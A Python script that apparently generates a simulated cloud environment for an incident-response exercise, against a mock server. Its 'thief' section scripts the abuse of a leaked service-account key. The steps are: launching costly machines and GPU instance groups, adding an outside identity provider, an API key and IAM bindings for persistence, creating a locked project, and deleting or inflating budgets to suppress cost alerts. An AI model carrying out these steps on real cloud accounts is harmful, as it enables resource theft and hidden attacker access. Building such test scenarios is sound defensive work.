"""A small attack for every rung and every way in: machines and groups to isolate, copy and destroy, a provider from outside, an API key, bindings high
up, a project with a lien, budgets; the owners have the same names elsewhere.

    rungs.py URL [FILE] > world.json
"""

import json
import sys
import time

from attack import BUILDER, DATA, LAB, MALLORY, MINUTE, OPS, ORG, POOL, RESPONSE, ROBOT, SANDBOX, SHOP, STAGE, TOOL, WEB, house
from cloud import OWNERS, RESPONDER, THIEF, Actor, door, machine_of

ZONE, OTHER, REGION = "us-central1-a", "us-east1-b", "europe-west1"
MINED = "dig-mine-3316"
BILLING = "billingAccounts/012345-6789AB-CDEF01"
BLIND = "oncall@example.com"


def group(actor, project, place, name, scaler):
    """A managed group of two and the autoscaler that holds it; the numbers of group, autoscaler and machines."""
    compute = actor("compute")
    groups, scalers = (compute.instanceGroupManagers(), compute.autoscalers()) if "zone" in place else (compute.regionInstanceGroupManagers(), compute.regionAutoscalers())
    scope = f"{next(iter(place))}s/{next(iter(place.values()))}"
    held = actor.done(project, groups.insert(project=project, body={
        "name": name, "baseInstanceName": name, "instanceTemplate": "global/instanceTemplates/dig", "targetSize": 2}, **place).execute())["targetId"]
    scaled = actor.done(project, scalers.insert(project=project, body={
        "name": scaler, "target": f"{scope}/instanceGroupManagers/{name}", "autoscalingPolicy": {"minNumReplicas": 2, "maxNumReplicas": 4}}, **place).execute())["targetId"]
    for _ in range(200):
        rows = groups.listManagedInstances(project=project, instanceGroupManager=name, **place).execute().get("managedInstances", [])
        if len(rows) == 2 and all(row["instanceStatus"] == "RUNNING" for row in rows):
            return held, scaled, [(row["instance"].split("/zones/")[1].split("/")[0], row["id"]) for row in rows]
        time.sleep(0.05)
    raise RuntimeError(rows)


def main(url):
    door(url, "knobs", {"seconds": 0.05})
    alice, file = house(url)
    crm = alice("cloudresourcemanager", "v3")
    alice.bind(crm.folders(), f"folders/{SANDBOX}", "roles/resourcemanager.folderAdmin", f"serviceAccount:{BUILDER}")
    alice.bind(crm.organizations(), f"organizations/{ORG}", "roles/iam.securityAdmin", f"serviceAccount:{BUILDER}")
    alice.bind(crm.folders(), f"folders/{SANDBOX}", "roles/viewer", "user:auditor@example.com", {"title": "until spring", "expression": 'request.time < timestamp("2030-04-01T00:00:00Z")'})
    # Somebody who sees all and may stop nothing.
    for role in ("roles/viewer", "roles/logging.privateLogViewer", "roles/browser", "roles/cloudasset.viewer", "roles/serviceusage.serviceUsageConsumer"):
        alice.bind(crm.organizations(), f"organizations/{ORG}", role, f"user:{BLIND}")
    door(url, "tree", {"policies": {BILLING: {"bindings": [
        {"role": "roles/billing.admin", "members": ["user:alice@example.com", f"user:{RESPONSE}", f"serviceAccount:{BUILDER}", f"serviceAccount:{ROBOT}"]},
        {"role": "roles/logging.viewer", "members": [f"user:{RESPONSE}", f"serviceAccount:{ROBOT}"]}]}}})
    budgets = alice("billingbudgets").billingAccounts().budgets()
    held = [budgets.create(parent=BILLING, body={
        "displayName": name, "amount": {"specifiedAmount": {"currencyCode": "EUR", "units": units}}, "thresholdRules": [{"thresholdPercent": 0.5}],
        "notificationsRule": {"pubsubTopic": f"projects/{OPS}/topics/cost"}}).execute()["name"] for name, units in (("all", "900"), ("shop", "300"), ("lab", "50"))]
    # Two of the owners' services: one of them runs as the account that leaks.
    alice("serviceusage").services().batchEnable(parent=f"projects/{SHOP}", body={"serviceIds": ["run.googleapis.com"]}).execute()
    time.sleep(0.3)
    for service, account in (("checkout", BUILDER), ("front", WEB)):
        alice("run", "v2").projects().locations().services().create(parent=f"projects/{SHOP}/locations/europe-west1", serviceId=service, body={
            "template": {"serviceAccount": account, "containers": [{"image": "example.com/shop:1"}]}}).execute()
    spared = {"machine": alice.launch(SHOP, OTHER, "dig-1")}
    compute = alice("compute")
    alice.done(STAGE, compute.instanceTemplates().insert(project=STAGE, body={"name": "dig", "properties": machine_of(STAGE, None, "e2-small")}).execute())
    spared["group"], spared["scaler"], spared["members"] = group(alice, STAGE, {"zone": ZONE}, "dig", "grow")
    spared["lien"] = crm.liens().create(body={"parent": f"projects/{SHOP}", "restrictions": ["resourcemanager.projects.delete"], "origin": "owners", "reason": "it sells"}).execute()["name"]
    pools = alice("iam").projects().locations().workloadIdentityPools()
    pools.create(parent=f"projects/{OPS}/locations/global", workloadIdentityPoolId="ci", body={"displayName": "ci"}).execute()
    door(url, "settle")
    pools.providers().create(parent=f"projects/{OPS}/locations/global/workloadIdentityPools/ci", workloadIdentityPoolProviderId="dig", body={
        "oidc": {"issuerUri": "https://git.example.com"}, "attributeMapping": {"google.subject": "assertion.sub"}}).execute()

    # ---- the thief ------------------------------------------------------------------------------------------------------------
    door(url, "settle")
    leaked_at = door(url, "clock", {"offset": -40 * MINUTE})
    door(url, "abuse", {"project": SHOP, "event": {"detectionType": "LEAKED_CREDENTIALS", "action": "NOTIFY", "leakedCredentialEvent": {
        "serviceAccountCredential": {"serviceAccount": BUILDER, "keyId": file["private_key_id"]}, "detectedUri": ["https://git.example.net/dotfiles/key.json"]}}})
    thief = Actor.of_key(url, file, THIEF, agent=TOOL)
    made = {}
    made["protected"] = thief.launch(SHOP, ZONE, "dig-1", "c2-standard-60", deletionProtection=True, tags={"items": ["web"]})
    disks = machine_of(SHOP, ZONE, "c2-standard-60")["disks"] + [{"type": "SCRATCH", "autoDelete": True, "initializeParams": {"diskType": f"zones/{ZONE}/diskTypes/local-ssd"}}]
    made["scratch"] = thief.launch(SHOP, ZONE, "dig-2", "c2-standard-60", disks=disks)
    compute = thief("compute")
    made["template"] = thief.done(SHOP, compute.instanceTemplates().insert(project=SHOP, body={"name": "dig", "properties": machine_of(SHOP, None, "g2-standard-96")}).execute())["targetId"]
    made["group"], made["scaler"], made["members"] = group(thief, SHOP, {"zone": ZONE}, "dig", "grow")
    made["wide"], made["wide_scaler"], made["wide_members"] = group(thief, SHOP, {"region": REGION}, "wide", "wide")
    here = f"projects/{SHOP}/locations/global"
    pools = thief("iam").projects().locations().workloadIdentityPools()
    pools.create(parent=here, workloadIdentityPoolId="ci", body={"displayName": "ci"}).execute()
    door(url, "settle")
    pools.providers().create(parent=f"{here}/workloadIdentityPools/ci", workloadIdentityPoolProviderId="dig", body={
        "oidc": {"issuerUri": "https://idp.example.net"}, "attributeMapping": {"google.subject": "assertion.sub"}}).execute()
    made["provider"] = f"{here}/workloadIdentityPools/ci/providers/dig"
    keys = thief("apikeys", "v2").projects().locations().keys()
    keys.create(parent=here, body={"displayName": "maps"}).execute()
    door(url, "settle")
    made["api_key"] = keys.list(parent=here).execute()["keys"][0]["name"]
    tree = thief("cloudresourcemanager", "v3")
    thief.bind(tree.folders(), f"folders/{SANDBOX}", "roles/viewer", MALLORY)
    thief.bind(tree.organizations(), f"organizations/{ORG}", "roles/viewer", MALLORY)
    tree.projects().create(body={"projectId": MINED, "parent": f"folders/{SANDBOX}", "displayName": "dig"}).execute()
    door(url, "settle")
    number = tree.projects().get(name=f"projects/{MINED}").execute()["name"]
    made["lien"] = tree.liens().create(body={"parent": number, "restrictions": ["resourcemanager.projects.delete"], "origin": "mallory", "reason": "mine"}).execute()["name"]
    # Nobody shall be warned of what it costs.
    budgets = thief("billingbudgets").billingAccounts().budgets()
    budgets.delete(name=held[0]).execute()
    budgets.patch(name=held[1], updateMask="amount,thresholdRules", body={
        "amount": {"specifiedAmount": {"currencyCode": "EUR", "units": "900000"}}, "thresholdRules": [{"thresholdPercent": 5.0}]}).execute()
    door(url, "settle")
    door(url, "clock", {"offset": 0})
    return {
        "organization": f"organizations/{ORG}", "leaked_at": leaked_at, "key": file["private_key_id"], "builder": BUILDER, "made": made, "spared": spared,
        "projects": {"shop": SHOP, "data": DATA, "stage": STAGE, "lab": LAB, "ops": OPS, "mined": MINED}, "sandbox": f"folders/{SANDBOX}", "mallory": MALLORY,
        "zone": ZONE, "other": OTHER, "region": REGION, "robot": ROBOT, "pool": POOL, "budgets": held, "billing": BILLING.split("/")[1], "resources": [],
        "number": door(url, "tree", {})[SHOP],
        "files": {"leaked": file, "responder": door(url, "user", {"email": RESPONSE, "quota": OPS}), "blind": door(url, "user", {"email": BLIND, "quota": OPS})},
        "tokens": {"leaked": thief.credentials.token, "alice": door(url, "token", {"email": "alice@example.com", "kind": "user"})},
        "addresses": {"thief": THIEF, "owners": OWNERS, "responder": RESPONDER},
    }


if __name__ == "__main__":
    told = main(sys.argv[1])
    door(sys.argv[1], "knobs", {"seconds": 0.1})
    for kept in sys.argv[2:]:
        door(sys.argv[1], "save", {"path": kept})
    json.dump(told, sys.stdout, indent=1)
